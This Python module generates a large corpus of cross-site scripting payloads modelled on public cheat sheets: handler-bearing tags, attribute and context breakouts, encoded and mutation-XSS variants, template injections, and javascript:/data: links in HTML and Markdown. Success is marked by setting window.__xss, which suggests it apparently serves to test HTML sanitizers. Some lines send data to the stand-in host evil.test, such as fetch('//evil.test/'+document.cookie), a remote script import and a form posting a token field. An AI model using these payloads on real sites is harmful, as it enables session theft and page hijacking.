"""Thousands of ways to smuggle a script into a page, made as the public collections list them.

Tags by event handlers by ways to write an attribute, ways out of whatever the text stands in, addresses that run,
and what fools readers of HTML, Markdown and templates (PortSwigger's and OWASP's cheat sheets, the html5sec list).
A payload that runs sets ``window.__xss``, opens a dialog, or asks ``evil.test`` for something.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import cycle, product
from typing import Final
from urllib.parse import quote

__all__ = ["ADDRESSES", "PAYLOADS", "packed"]

_RUN: Final = "window.__xss=1"
# The same call, in disguises that survive filters; the first runs as it stands.
_SCRIPTS: Final = (
    _RUN,
    "alert(1)",
    "alert`1`",
    "window['__x'+'ss']=1",
    "self[`__x${'ss'}`]=1",
    "eval(atob('d2luZG93Ll9feHNzPTE='))",
    "\\u0077indow.__xss=1",
    "(0,eval)('\\x77indow.__xss=1')",
    "top.__xss=parent.__xss=1",
    "import('http://evil.test/x.js')",
    "fetch('//evil.test/'+document.cookie)",
    "setTimeout`window.__xss\\x3d1`",
    "[1].map(()=>window.__xss=1)",
    "throw/**/onerror=alert,1",
)

# ---- elements with a handler --------------------------------------------------------------------------------------

_ALONE: Final = (  # what makes the event happen without a hand
    ("img", "src=x", "onerror"),
    ("img", "src=/web/mark.svg", "onload"),
    ("image", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("svg", "", "onfocusin"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("body", "", "onhashchange"),
    ("iframe", "src=/", "onload"),
    ("iframe", "srcdoc=x", "onload"),
    ("frameset", "", "onload"),
    ("object", "data=x", "onerror"),
    ("embed", "src=/", "onload"),
    ("script", "src=x", "onerror"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("style", "", "onload"),
    ("audio", "src=x", "onerror"),
    ("video", "src=x", "onerror"),
    ("video><source", "src=x", "onerror"),
    ("video", "src=x autoplay", "onloadstart"),
    ("track", "default src=x", "onerror"),
    ("input", "autofocus", "onfocus"),
    ("input", "type=image src=x", "onerror"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("keygen", "autofocus", "onfocus"),
    ("xss", "autofocus tabindex=1", "onfocus"),
    ("a", "href=# autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("dialog", "open", "onclose"),
    ("marquee", "", "onstart"),
    ("marquee", "loop=1 width=0", "onfinish"),
    ("svg><animate", "attributeName=x dur=1s", "onbegin"),
    ("svg><set", "attributeName=x", "onbegin"),
    ("svg><image", "href=x", "onerror"),
    ("math", "", "onfocusin"),
    ("p", "style=animation:x", "onanimationstart"),
    ("xss", "style=transition:color.1s", "ontransitionend"),
    ("div", "style=overflow:auto", "onscroll"),
)
_BY_HAND: Final = (
    "onclick ondblclick onauxclick oncontextmenu onmousedown onmouseup onmouseover onmouseenter onmousemove onmouseout "
    "onmouseleave onmousewheel onwheel onpointerdown onpointerup onpointerover onpointerenter onpointermove "
    "onpointerout onpointerleave onpointercancel onpointerrawupdate ongotpointercapture onlostpointercapture "
    "ontouchstart ontouchend ontouchmove ontouchcancel onkeydown onkeypress onkeyup onfocus onfocusin onfocusout "
    "onblur oninput onbeforeinput onchange onselect onselectstart onselectionchange oninvalid onreset onsubmit "
    "onsearch oncopy oncut onpaste onbeforecopy onbeforecut onbeforepaste ondrag ondragstart ondragend ondragenter "
    "ondragleave ondragover ondrop onfullscreenchange onbeforetoggle ontoggle oncommand onscrollend onscrollsnapchange "
    "oncontentvisibilityautostatechange onbeforematch onanimationend onanimationiteration onanimationcancel "
    "ontransitionrun ontransitionstart ontransitioncancel onwebkitanimationstart onwebkittransitionend"
).split()
_CARRIERS: Final = ("a href=#", "button", "p contenteditable", "xss draggable=true", "input value=x", "mark")
_ATTRIBUTES: Final = (  # how a handler is written: bare, quoted, spaced, encoded, in other letters
    " {event}={script}",
    " {event}='{script}'",
    ' {event}="{script}"',
    "/{event}={script}",
    "\t{event}\t=\t{script}",
    "\n{event}\n=\n'{script}'",
    "\f{event}={script}",
    " x='>' {event}={script}",
    ' x="`" {event}={script} y="`"',
    " {EVENT}='{script}'",
    " {event}='{decimal}'",
    " {event}='{hexadecimal}'",
    " {event}='javascript:{script}'",
    " {event}=`{script}`",
    " {event} ='{script}'//",
)
_OUT: Final = (  # out of the attribute, element, comment, string or Markdown that the text stands in
    "",
    '">',
    "'>",
    "`>",
    '"/>',
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "</datalist>",
    "</template>",
    "</noscript>",
    "</xmp>",
    "</svg>",
    "</math>",
    "</mark></p>",
    "</a></h4>",
    "</span></button>",
    "</td></tr></table>",
    "</details>",
    "</dialog>",
    "</main></body>",
)


def _elements() -> Iterator[str]:
    outs, scripts = cycle(_OUT), cycle(_SCRIPTS)
    for (name, rest, event), attribute in product(_ALONE, _ATTRIBUTES):
        opened = f"<{name} {rest}".rstrip()
        yield f"{next(outs)}{opened}{_attribute(attribute, event, next(scripts))}>"
    for (name, rest, event), out in product(_ALONE, _OUT):
        yield f"{out}<{name} {rest} {event}={_RUN}>".replace("  ", " ")
    for event, carrier in product(_BY_HAND, _CARRIERS):
        attribute = _ATTRIBUTES[len(event + carrier) % len(_ATTRIBUTES)]
        yield f"{next(outs)}<{carrier}{_attribute(attribute, event, next(scripts))}>x"


def _attribute(form: str, event: str, script: str) -> str:
    return form.format(
        event=event,
        EVENT="".join(letter.upper() if place % 2 else letter for place, letter in enumerate(event)),
        script=script,
        decimal="".join(f"&#{ord(letter)}" + ";" for letter in script),
        hexadecimal="".join(f"&#x{ord(letter):04x}" for letter in script),
    )


def _inside_a_tag() -> Iterator[str]:
    """A handler put into the tag whose attribute the text is the value of."""
    scripts = cycle(_SCRIPTS)
    for quoted, event in product(('"', "'", "`", " "), (*_BY_HAND, *{event for *_, event in _ALONE})):
        if quoted == " " and event not in _BY_HAND[:12]:
            continue
        yield f"x{quoted} {event}={quoted}{next(scripts)}{quoted} autofocus tabindex=1 x={quoted}"
    for quoted in ('"', "'"):
        yield f"{quoted} style={quoted}animation:x;position:fixed;inset:0{quoted} onanimationstart={_RUN} x={quoted}"
        yield f"{quoted} href={quoted}javascript:{_RUN}{quoted} x={quoted}"
        yield f"{quoted} srcdoc={quoted}<script>{_RUN}</script>{quoted} x={quoted}"
        yield f"{quoted} formaction={quoted}javascript:{_RUN}{quoted} x={quoted}"
        yield f"{quoted} data-words={quoted}onclick{quoted} data-words-id={quoted}{_RUN}{quoted} x={quoted}"


# ---- scripts, strings, templates ----------------------------------------------------------------------------------


def _scripts() -> Iterator[str]:
    tags = (
        "<script>{}</script>",
        "<ScRiPt>{}</sCrIpT>",
        "<script >{}</script >",
        "<script\n>{}</script\n>",
        "<script/x>{}</script>",
        "<script type=module>{}</script>",
        "<script>{}//",
        "<script><!--\n{}\n//--></script>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "<svg><script>{}</script></svg>",
        "<svg><script>/*</script>*/{}</script>",
        "<math><mtext><script>{}</script>",
        "<script src=data:,{}></script>",
        "<<script>{}//<</script>",
        "<script x='>'>{}</script>",
        "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
        "<iframe src='javascript:parent.{}'></iframe>",
        "<object data='data:text/html,<script>{}</script>'></object>",
    )
    for tag, script in product(tags, _SCRIPTS):
        yield tag.format(script)
    for out, script in product(_OUT[1:], _SCRIPTS):
        yield f"{out}<script>{script}</script>"
    for before, after in product(
        (
            "'",
            '"',
            "\\'",
            '\\"',
            "`",
            "';",
            '";',
            "'}",
            '"}',
            "')",
            '")',
            "${",
            "\u2028",
            "*/",
            "\\u0027",
            "%27",
            "</script>",
        ),
        ("//", "<!--", "+'", '-"', "/*", "}//", ";'"),
    ):
        for joined in ("-", ";"):
            yield f"{before}{joined}{_RUN}{joined}{after}"
    for opened, closed in (
        ("{{", "}}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%= ", " %>"),
        ("{%", "%}"),
        ("[[", "]]"),
        ("{{{", "}}}"),
        ("${{", "}}"),
        ("@(", ")"),
        ("{@html ", "}"),
    ):
        for told in (
            _RUN,
            f"constructor.constructor('{_RUN}')()",
            f"$on.constructor('{_RUN}')()",
            f"[].pop.constructor&#40'{_RUN}'&#41()",
            f"x={{'y':''.constructor.prototype}};x.y.charAt=[].join;$eval('{_RUN}')",
        ):
            yield f"{opened}{told}{closed}"


def _encoded() -> Iterator[str]:
    """What would be markup after one decoding too many."""
    simple = (f"<script>{_RUN}</script>", f"<img src=x onerror={_RUN}>", f'"><svg onload={_RUN}>', f"javascript:{_RUN}")
    for payload in simple:
        yield escape(payload)
        yield escape(escape(payload))
        yield quote(payload)
        yield quote(quote(payload))
        yield "".join(f"&#{ord(letter)};" for letter in payload)
        yield "".join(f"&#{ord(letter):07}" for letter in payload)
        yield "".join(f"&#x{ord(letter):x};" for letter in payload)
        yield "".join(f"\\u{ord(letter):04x}" for letter in payload)
        yield "".join(f"\\x{ord(letter):02x}" for letter in payload)
        yield payload.replace("<", "\uff1c").replace(">", "\uff1e")  # fullwidth, which NFKC makes plain
        yield payload.replace("<", "\u2039").replace(">", "\u203a")
        yield payload.replace("<", "%3C").replace(">", "%3E")
        yield payload.replace("<", "+ADw-").replace(">", "+AD4-")  # UTF-7
        yield payload.replace("s", "\u017f")  # long s, which becomes S in upper case
        yield payload.replace("<", "&lt").replace(">", "&gt")
        yield payload.replace("<", "\\<").replace(">", "\\>")
        yield payload.replace("<", "<\u200b")


# ---- what mends, styles, clobbers and forwards --------------------------------------------------------------------


def _others() -> Iterator[str]:
    inner = f"<img src=x onerror={_RUN}>"
    for holder in (
        "style",
        "noscript",
        "noembed",
        "noframes",
        "iframe",
        "xmp",
        "title",
        "textarea",
        "template",
        "script",
    ):
        yield f'<{holder}><p title="</{holder}>{inner}">'  # mutation XSS: what one parser reads, another does not
        yield f'<svg><{holder}><a id="</{holder}>{inner}">'
        yield f"<math><{holder}><!--</{holder}>{inner}-->"
        yield f"<form><math><mtext></form><form><mglyph><{holder}></math>{inner}"
        yield f"<{holder}>"
        yield f"</{holder}>"
        yield f"<{holder}"
    for text in (
        f"<!--{inner}-->",
        "<!--",
        f"<!--><{inner[1:]}",
        f"<!-- --!>{inner}",
        f"<![CDATA[{inner}]]>",
        f"<?xml version='1.0'?>{inner}",
        f"<!DOCTYPE x [<!ENTITY y '{inner}'>]>&y;",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_RUN}</x:script>",
        "<plaintext>",
        "<base href=//evil.test/>",
        "<base target=evil href=javascript:/x/>",
        "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
        "<meta charset=utf-7>",
        "<link rel=stylesheet href=http://evil.test/x.css>",
        "<link rel=prefetch href=//evil.test/x>",
        "<link rel=icon href=http://evil.test/x.ico>",
        "<style>@import 'http://evil.test/x.css';</style>",
        "<style>body{background:url(//evil.test/x.png)}</style>",
        "<div style=background:url(http://evil.test/x.png)>",
        "<div style=\"width:expression(window.__xss=1)\">",
        "<div style=-moz-binding:url(http://evil.test/x.xml)>",
        "<img src=http://evil.test/x.png>",
        "<img srcset='http://evil.test/x.png 1x'>",
        "<picture><source srcset=//evil.test/x.png><img>",
        "<video poster=http://evil.test/x.png>",
        "<audio src=http://evil.test/x.mp3 autoplay>",
        "<body background=http://evil.test/x.png>",
        "<table background=http://evil.test/x.png>",
        "<input type=image src=http://evil.test/x.png>",
        "<object data=http://evil.test/x.swf>",
        "<embed src=http://evil.test/x.swf>",
        "<iframe src=http://evil.test/>",
        "<frameset><frame src=http://evil.test/>",
        "<portal src=http://evil.test/>",
        "<svg><use href=http://evil.test/x.svg#x>",
        "<svg><image href=http://evil.test/x.png>",
        "<svg><feImage href=http://evil.test/x.png>",
        "<svg><a><animate attributeName=href values=javascript:window.__xss=1 /><text y=20>x",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\">",
        "<form action=http://evil.test/><input name=token><button>x",
        "<form><button formaction=javascript:window.__xss=1>x",
        "<form id=history><input name=innerHTML>",
        "<a id=tanya><a id=tanya name=request href=javascript:window.__xss=1>",
        "<img name=current><img id=thread>",
        "<button data-ask=x data-retry>x",
        "<p data-words=onclick data-words-id=window.__xss=1 data-words-en=window.__xss=1>x",
        "<a class=cite data-reader href=//evil.test/>1",
        "<section class=turn data-turn='{}'>x",
        "<dialog open id=reader><div class=reader__body>x",
        "<template shadowrootmode=open><slot></slot><script>window.__xss=1</script></template>",
        "<a href=http://evil.test/ ping=http://evil.test/>x",
        "<isindex action=javascript:window.__xss=1 type=image>",
        "<x-tanya is=x><slot onslotchange=window.__xss=1>",
    ):  # fmt: skip
        yield text
    for out, text in product(
        _OUT[1:],
        (
            "<base href=//evil.test/>",
            "<iframe src=//evil.test/>",
            "<link rel=stylesheet href=//evil.test/x>",
            "<img src=//evil.test/x>",
            "<form action=//evil.test/><button>x",
        ),
    ):
        yield f"{out}{text}"


# ---- addresses ----------------------------------------------------------------------------------------------------


def _addresses() -> Iterator[str]:
    schemes = (
        "javascript:", "JavaScript:", "JAVASCRIPT:", "jAvAsCrIpT:", " javascript:", "\tjavascript:", "\njavascript:",
        "\x01javascript:", "\x1fjavascript:", "\u00a0javascript:", "\ufeffjavascript:", "java\tscript:", "java\nscript:",
        "java\rscript:", "javascript\t:", "j\na\nv\na\ns\nc\nr\ni\np\nt:", "javascript&colon;", "javascript&#58;",
        "&#106;avascript:", "&#x6A;avascript:", "java&Tab;script:", "java&NewLine;script:", "javascript%3A",
        "%6aavascript:", "\\u006aavascript:", "javascript:javascript:", "view-source:javascript:", "feed:javascript:",
        "jar:javascript:", "livescript:", "mocha:", "vbscript:", "VBScript:",
    )  # fmt: skip
    bodies = (
        "window.__xss=1", "alert(1)", "//%0Awindow.__xss=1", "//evil.test/%0Awindow.__xss=1", "void(window.__xss=1)",
        "/*--></title></style></script>*/window.__xss=1", "'<script>window.__xss=1</script>'", "//https://a.id/%0d%0aalert(1)",
    )  # fmt: skip
    yield from map("".join, product(schemes, bodies))
    data = (
        "data:", "DATA:", " data:", "da\tta:", "data&colon;", "&#100;ata:", "blob:", "filesystem:", "about:", "file:",
        "srcdoc:", "resource:", "chrome:", "intent:", "tel:", "mailto:", "ftp:",
    )  # fmt: skip
    documents = (
        "text/html,<script>window.__xss=1</script>",
        "text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==",
        "image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__xss=1'/>",
        "application/javascript,window.__xss=1",
        "//evil.test/x",
    )
    yield from map("".join, product(data, documents))
    hosts = ("https://evil.test/", "http://evil.test:80/", "https://a@evil.test/", "//evil.test/", "\\\\evil.test\\", "/\\evil.test/", "https:evil.test/", "http:///evil.test/")  # fmt: skip
    tails = (
        "", '"onclick="window.__xss=1', "'onclick='window.__xss=1", '"><img src=x onerror=window.__xss=1>', "' autofocus onfocus=window.__xss=1 x='",
        "?<script>window.__xss=1</script>", "#javascript:window.__xss=1", "%0d%0aSet-Cookie:x=1", "`onmouseover=window.__xss=1`",
    )  # fmt: skip
    yield from map("".join, product(hosts, tails))


def _links() -> Iterator[str]:
    """The addresses where HTML and Markdown have a place for one."""
    forms = (
        "<a href='{}'>x</a>", "<iframe src='{}'>", "<form action='{}'><button>x", "<button formaction='{}'>x", "<embed src='{}'>",
        "<object data='{}'>", "<svg><a xlink:href='{}'><text y=9>x", "<math href='{}'>x", "<area href='{}'>", "<link rel=import href='{}'>",
        "[x]({})", "![x]({})", "[x](<{}>)", "<{}>", '[x]({} "x")', "[x]: {}\n\n[x]", "[![x]({})](/)", "**[x]({})**", "> [x]({})",
    )  # fmt: skip
    written = cycle(forms)
    for address in ADDRESSES:
        yield next(written).format(address)
    for form, address in product(
        forms, (f"javascript:{_RUN}", "data:text/html,<script>parent.__xss=1</script>", "http://evil.test/x")
    ):
        yield form.format(address)


ADDRESSES: Final = tuple(dict.fromkeys(_addresses()))
PAYLOADS: Final = tuple(
    dict.fromkeys(
        payload
        for made in (_elements(), _inside_a_tag(), _scripts(), _encoded(), _others(), iter(ADDRESSES), _links())
        for payload in made
    )
)


def packed(payloads: tuple[str, ...], limit: int) -> list[list[str]]:
    """The payloads in groups, each of which joined by spaces has at most ``limit`` characters; longer ones alone."""
    groups: list[list[str]] = [[]]
    for payload in payloads:
        if groups[-1] and len(" ".join([*groups[-1], payload])) > limit:
            groups.append([])
        groups[-1].append(payload)
    return groups
